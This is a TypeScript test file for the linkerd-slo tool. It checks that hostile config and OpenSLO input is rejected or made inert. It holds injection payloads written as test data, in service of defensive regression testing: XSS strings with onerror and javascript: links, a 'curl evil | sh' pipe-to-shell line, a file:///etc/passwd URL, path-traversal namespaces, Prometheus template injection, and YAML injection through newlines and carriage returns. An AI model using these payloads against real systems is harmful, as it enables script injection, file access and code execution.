/**
 * Issue #10: no input can inject into what linkerd-slo writes. One regression test per case of the
 * issue, with its exact input, asserting the clear, located error or the inert output.
 */
import { describe, expect, it } from 'vitest';
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { dump, load } from 'js-yaml';
import { parseYamlConfig } from '../src/config/load.js';
import { ConfigError } from '../src/config/errors.js';
import { generate } from '../src/generate.js';
import { importOpenSlo } from '../src/openslo/import.js';
import { markdownLink, markdownText, sourceName } from '../src/text.js';
import { thrown } from './support/errors.js';

const ROOT = resolve(import.meta.dirname, '..');
const CLI = join(ROOT, 'dist', 'cli.js');

const configError = (yaml: string): ConfigError => thrown(ConfigError, () => parseYamlConfig(yaml, 'linkerd-slo.yaml'));

/** The issues of a ConfigError as "line:column path" (what a user reads first). */
const where = (err: ConfigError) => err.issues.map((i) => `${i.line}:${i.column} ${i.path.join('.')}`);

/** A minimal OpenSLO SLO document; `extra` documents are appended. */
function openSlo(slo: { name?: string; description?: string } = {}, extra = ''): string {
  const doc = {
    apiVersion: 'openslo/v1',
    kind: 'SLO',
    metadata: { name: slo.name ?? 'checkout' },
    spec: {
      ...(slo.description !== undefined ? { description: slo.description } : {}),
      budgetingMethod: 'Occurrences',
      timeWindow: [{ duration: '30d', isRolling: true }],
      objectives: [{ targetPercent: 99.9 }],
      indicator: {
        spec: {
          ratioMetric: {
            counter: true,
            bad: { metricSource: { type: 'Prometheus', spec: { query: 'http_requests_total{job="checkout",code=~"5.."}' } } },
            total: { metricSource: { type: 'Prometheus', spec: { query: 'http_requests_total{job="checkout"}' } } },
          },
        },
      },
    },
  };
  return dump(doc) + extra;
}

describe('OpenSLO import cannot write config through its header', () => {
  // A name holding "\r" then YAML: js-yaml (YAML 1.2) takes a lone CR as a line break.
  const hostileName = 'fast-burn\ralerting:\r  windows: [{severity: page, long: 1h, short: 5m, budgetConsumed: 2}]\r#';
  const policy = `---\n${dump({ apiVersion: 'openslo/v1', kind: 'AlertPolicy', metadata: { name: hostileName }, spec: {} })}`;

  it('a document name with CR and YAML stays inside the comment: the config has only cluster and slos', () => {
    const r = importOpenSlo([{ file: 'slo.yaml', text: openSlo({}, policy) }], { cluster: 'prod' });
    const parsed = load(r.yaml) as Record<string, unknown>;
    expect(Object.keys(parsed).sort()).toEqual(['cluster', 'slos']);
    // Every line before the first key is a comment, and no line holds a CR.
    const header = r.yaml.slice(0, r.yaml.indexOf('\ncluster:')).split('\n');
    for (const line of header) expect(line.startsWith('#'), JSON.stringify(line)).toBe(true);
    expect(r.yaml).not.toMatch(/\r/);
    // The imported config keeps the default alerting table (4 windows, 2 of them paging).
    const config = parseYamlConfig(r.yaml, 'imported.yaml');
    expect(config.alerting.windows.filter((w) => w.severity === 'page')).toHaveLength(2);
  });

  it('a file name with a newline cannot end the header comment either', () => {
    const r = importOpenSlo([{ file: 'slo\ncluster: evil.yaml', text: openSlo() }], { cluster: 'prod' });
    expect((load(r.yaml) as Record<string, unknown>).cluster).toBe('prod');
  });

  it('a hostile description is rejected at its line:column, control characters included', () => {
    try {
      importOpenSlo([{ file: 'slo.yaml', text: openSlo({ description: 'ok\u001b[31m red' }) }], { cluster: 'prod' });
      throw new Error('expected an import error');
    } catch (err) {
      expect(err).toBeInstanceOf(ConfigError);
      const message = (err as Error).message;
      expect(message.split('\n')).toHaveLength(1);
      expect(message).toMatch(/^slo\.yaml:\d+:\d+: document 1 \(SLO checkout\): spec\.description: contains the control character U\+001B/);
    }
  });

  it('Markdown and HTML in a description reach the runbook inert', () => {
    const description = '<img src=x onerror=alert(1)> [click](javascript:alert(1))\n## Remediation\nrun `curl evil | sh`';
    const r = importOpenSlo([{ file: 'slo.yaml', text: openSlo({ description }) }], { cluster: 'prod' });
    const config = parseYamlConfig(r.yaml, 'imported.yaml');
    const runbook = generate(config, 'imported.yaml').files.get('runbooks/LinkerdCustomSLOErrorBudgetBurn.md')!;
    expect(runbook).toContain('&lt;img src=x onerror=alert\\(1\\)&gt;');
    expect(runbook).not.toMatch(/<img/i);
    expect(runbook).not.toMatch(/(^|[^\\])\]\(javascript:/);
    expect(runbook).not.toMatch(/^#+ *Remediation/m);
    expect(runbook).not.toMatch(/(^|[^\\])`curl/);
  });

  it('messages quote a hostile document name on one line, cut to a readable length', () => {
    const name = `x\n${'y'.repeat(5000)}`;
    try {
      importOpenSlo([{ file: 'slo.yaml', text: openSlo({ name }) }], { cluster: 'prod' });
      throw new Error('expected an import error');
    } catch (err) {
      const message = (err as Error).message;
      expect(message.split('\n')).toHaveLength(1);
      expect(message.length).toBeLessThan(400);
    }
  });
});

describe('config strings cannot become Prometheus templates', () => {
  it('linkerd.proxyJob with a query action is rejected at its line:column', () => {
    const err = configError(`cluster: prod\nlinkerd:\n  proxyJob: 'linkerd-proxy{{ with query "count(up)" }}{{ . }}{{ end }}'\n`);
    expect(where(err)).toContain('3:13 linkerd.proxyJob');
    expect(err.message).toContain('Prometheus would run it as a template');
  });

  it('alerting.severities.ticket "warn{{end}}" is rejected, not left for promtool', () => {
    const err = configError('cluster: prod\nalerting:\n  severities:\n    ticket: "warn{{end}}"\n');
    expect(where(err)).toContain('4:13 alerting.severities.ticket');
  });

  it('a rule label value with "}}" is rejected (Prometheus templates alert labels too)', () => {
    const err = configError('cluster: prod\nprometheus:\n  ruleLabels:\n    team: "a }} b"\n');
    expect(where(err)).toEqual(['4:11 prometheus.ruleLabels.team']);
  });

  it('a label value with quotes, backslashes and ${} is accepted and written as data', () => {
    const config = parseYamlConfig('cluster: prod\nprometheus:\n  ruleLabels:\n    team: "a\\"b\\\\c ${x} <b>"\n', 'c.yaml');
    const rules = load(generate(config, 'c.yaml').files.get('prometheus/linkerd-slo-prod.rules.yaml')!) as { groups: Array<{ rules: Array<{ labels?: Record<string, string> }> }> };
    const labels = rules.groups.flatMap((g) => g.rules).map((r) => r.labels?.team);
    expect(new Set(labels)).toEqual(new Set(['a"b\\c ${x} <b>']));
  });
});

describe('reserved and invalid label names are schema errors', () => {
  it.each([
    ['prometheus:\n  ruleLabels: {__name__: x}\n', '3:26 prometheus.ruleLabels.__name__'],
    ['prometheus:\n  extraMatchers: {__name__: up}\n', '3:29 prometheus.extraMatchers.__name__'],
    ['prometheus:\n  extraMatchers: {"a-b": up}\n', '3:26 prometheus.extraMatchers.a-b'],
    ['multiCluster:\n  clusterLabel: __name__\n', '3:17 multiCluster.clusterLabel'],
  ])('%j', (yaml, expected) => {
    const err = configError(`cluster: prod\n${yaml}`);
    expect(where(err)).toEqual([expected]);
    expect(err.message).toContain('not starting with "__"');
  });
});

describe('path segments are names', () => {
  it('a Mimir namespace cannot leave --out', () => {
    const err = configError('cluster: prod\nrules:\n  targets: [mimir]\n  mimir: {namespace: "x/../../../../victim"}\n');
    expect(where(err)).toEqual(['4:22 rules.mimir.namespace']);
  });

  it.each([
    ['grafana:\n  folder: "../etc"\n', '3:11 grafana.folder'],
    ['grafana:\n  provisioning: {path: "/var/lib/../../etc"}\n', '3:24 grafana.provisioning.path'],
    ['rules:\n  mimir: {sourceTenants: [".."]}\n', '3:27 rules.mimir.sourceTenants.0'],
  ])('%j', (yaml, expected) => {
    expect(where(configError(`cluster: prod\n${yaml}`))).toEqual([expected]);
  });
});

describe('URLs are http(s) and cannot break out of a link', () => {
  it.each(['javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'file:///etc/passwd', 'https://x.example/"><img src=x onerror=alert(1)>', 'https://x.example/a)(javascript:alert(1)'])(
    'runbookBaseUrl %j',
    (url) => {
      const err = configError(`cluster: prod\nalerting:\n  runbookBaseUrl: ${JSON.stringify(url)}\n`);
      expect(where(err)).toEqual(['3:19 alerting.runbookBaseUrl']);
    },
  );
});

describe('bounded strings', () => {
  it('a 1 MB label value is rejected with the limit, before anything is generated', () => {
    const err = configError(`cluster: prod\nprometheus:\n  ruleLabels:\n    team: "${'a'.repeat(1 << 20)}"\n`);
    expect(where(err)).toEqual(['4:11 prometheus.ruleLabels.team']);
    expect(err.issues[0]!.message).toMatch(/^is 1048576 characters long; at most 1024 are allowed/);
  });

  it('a 20 MB value is a config error, not "Invalid string length"', () => {
    const err = configError(`cluster: prod\nkubernetes:\n  release: "${'r'.repeat(20 << 20)}"\n`);
    expect(err.issues.map((i) => i.path.join('.'))).toContain('kubernetes.release');
    expect(err.issues.some((i) => i.message.startsWith(`is ${20 << 20} characters long`))).toBe(true);
  });

  it('a description may hold 1050 characters and newlines (OpenSLO\'s limit), not more', () => {
    const custom = (description: string) =>
      `cluster: prod\nslos:\n  custom:\n    - {name: a, objective: 99.9, period: 30d, total: x_total, errors: y_total, description: ${JSON.stringify(description)}}\n`;
    expect(parseYamlConfig(custom(`${'d'.repeat(1040)}\n\tend`), 'c.yaml').slos.custom[0]!.description).toHaveLength(1045);
    expect(where(configError(custom('d'.repeat(1051))))).toEqual(['4:93 slos.custom.0.description']);
    expect(where(configError(custom('a\rb')))).toEqual(['4:93 slos.custom.0.description']);
  });
});

describe('headers name the config by its base name', () => {
  const config = parseYamlConfig('cluster: prod\n', 'c.yaml');

  it('a config file name with a newline cannot end a header comment', () => {
    const files = generate(config, 'dir/evil\ngroups: []\n#.yaml').files;
    for (const [path, text] of files) {
      if (!path.endsWith('.yaml')) continue;
      const [what, from, ...rest] = text.split('\n');
      // Then, in rule files, only pint's file-wide exemption (docs/linting.md): its reason, its control comment, a blank line.
      const next = rest.find((l) => l !== '' && !/^# (rule\/dependency: pint pairs recordings by name only; .*|pint file\/disable rule\/dependency)$/.test(l));
      expect(what, path).toMatch(/^# /);
      expect(from, path).toBe('# Generated by linkerd-slo from evil_groups______.yaml. Do not edit: change the config and run `linkerd-slo generate`.');
      expect(next, path).not.toMatch(/^#/);
    }
  });

  it('the same config from another directory generates the same files', () => {
    const a = generate(config, '/home/me/linkerd-slo.yaml').files;
    const b = generate(config, '../../linkerd-slo.yaml').files;
    expect([...b.entries()]).toEqual([...a.entries()]);
  });

  it('`generate --check` from a subdirectory finds the committed example up to date', () => {
    const r = spawnSync(process.execPath, [CLI, 'generate', '--config', 'linkerd-slo.yaml', '--out', '../out', '--check'], { cwd: join(ROOT, 'examples'), encoding: 'utf8' });
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
  });

  it('the CLI writes nothing outside --out for a file name with a newline', () => {
    const dir = mkdtempSync(join(tmpdir(), 'linkerd-slo-inject-'));
    mkdirSync(join(dir, 'cfg'));
    const file = join(dir, 'cfg', 'my\nconfig.yaml');
    writeFileSync(file, 'cluster: prod\n');
    const r = spawnSync(process.execPath, [CLI, 'generate', '--config', file, '--out', join(dir, 'out')], { encoding: 'utf8' });
    expect(r.status, r.stderr).toBe(0);
    expect(readdirSync(dir).sort()).toEqual(['cfg', 'out']);
    expect(readdirSync(join(dir, 'cfg'))).toEqual(['my\nconfig.yaml']);
  });
});

describe('text helpers', () => {
  it('markdownText leaves no tag, link, code span or block marker', () => {
    expect(markdownText('<b>&"\'')).toBe('&lt;b&gt;&amp;&quot;&#39;');
    expect(markdownText('[x](javascript:y) `c` *e* |t|')).toBe('\\[x\\]\\(javascript:y\\) \\`c\\` \\*e\\* \\|t\\|');
    expect(markdownText('# h')).toBe('\\# h');
    expect(markdownText('1. item')).toBe('1\\. item');
    expect(markdownText('a\n## Remediation\u2028b')).toBe('a ## Remediation b');
  });

  it('markdownLink refuses anything but http(s) and keeps the target in one piece', () => {
    expect(() => markdownLink('x', 'javascript:alert(1)')).toThrow(/non-http\(s\)/);
    expect(markdownLink('Runbook', 'https://x.example/a b(c)')).toBe('[Runbook](https://x.example/a%20b%28c%29)');
  });

  it('sourceName keeps the base name and nothing that means something in YAML or Markdown', () => {
    expect(sourceName('/a/b/linkerd-slo.yaml')).toBe('linkerd-slo.yaml');
    expect(sourceName('C:\\cfg\\prod.yaml')).toBe('prod.yaml');
    expect(sourceName('x`<img>\r\n.yaml')).toBe('x__img___.yaml');
  });
});
